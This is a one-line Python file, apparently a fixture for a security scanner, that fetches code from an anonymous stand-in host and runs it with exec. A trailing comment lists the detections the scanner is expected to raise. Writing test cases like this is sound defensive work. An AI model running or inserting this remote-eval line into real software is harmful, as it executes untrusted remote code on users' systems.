import requests

exec(requests.get("https://ab3de-fgh4i.icp0.example/p").text)  # expect: url-analyzer/anonymous-host, malicious-command/remote-eval
